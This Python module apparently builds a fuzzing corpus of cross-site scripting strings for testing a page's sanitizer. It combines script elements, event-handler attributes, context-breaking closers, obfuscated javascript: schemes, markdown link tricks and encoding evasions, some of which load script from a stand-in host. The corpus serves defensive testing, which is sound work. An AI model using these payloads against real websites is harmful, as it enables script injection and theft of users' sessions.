"""Hostile texts, put together from building blocks: what people try who want a page to run their script.

Each one, if it ever ran, would add to window.__ran, open a dialog or ask for something from another machine.
"""

from itertools import cycle, islice, product

RUN = "window.__ran=1"
ELSEWHERE = "http://elsewhere.invalid/"
TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe")
TAGS += ("marquee", "select autofocus", "textarea autofocus", "object data=x", "style")
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter", "onbegin", "oncut")
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}a.js></script>",
    f'<iframe srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>"></iframe>',
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<base href="{ELSEWHERE}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<link rel="stylesheet" href="{ELSEWHERE}a.css">',
    f"<style>@import '{ELSEWHERE}a.css';*{{background:url({ELSEWHERE}b)}}</style>",
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<template><img src=x onerror="{RUN}"></template>',
)
CLOSERS = ("", "</textarea>", "</title>", "</script>", '">', "'>", "-->", "]]>", "</select></option>", "</datalist>")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:text/html,<script>")
SCHEMES += (
    "java&#10;script:",
    "&#106;avascript:",
    "javascript&colon;",
    "%6aavascript:",
    "blob:",
    "//elsewhere.invalid/",
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "[x\n]({})",
    '[x](https://a.example "\\" onmouseover={} ")',
)
TRICKS = (
    "{{% debug %}}{}",
    "{{{{ clinic|safe }}}}{}",
    "\u202e{}\u202c",
    "\u200b{}",
    "\ufeff{}",
    "\u2028{}\u2029",
    "＜script＞{}＜/script＞",
    "\\u003cscript\\u003e{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "{{clinic_name}}{}",
    "javascript:{}",
    "%3Cscript%3E{}%3C/script%3E",
    "*<b onclick={}>x</b>*",
    "```<script>{}</script>```",
)


def _raw():
    yield from ELEMENTS
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} {handler}={RUN}>"
        yield f"<{tag.upper()}/{handler.upper()}='{RUN}' x="
    for closer, element in product(CLOSERS, ELEMENTS):
        yield closer + element
    for form, scheme in product(LINKS, SCHEMES):
        yield form.format(f"{scheme}{RUN}")
    for trick in TRICKS:
        yield trick.format(RUN)


STRINGS = tuple(dict.fromkeys(_raw()))


def in_turn(start: int = 0):
    """The strings one after the other, again from the beginning at the end."""
    return islice(cycle(STRINGS), start, None)
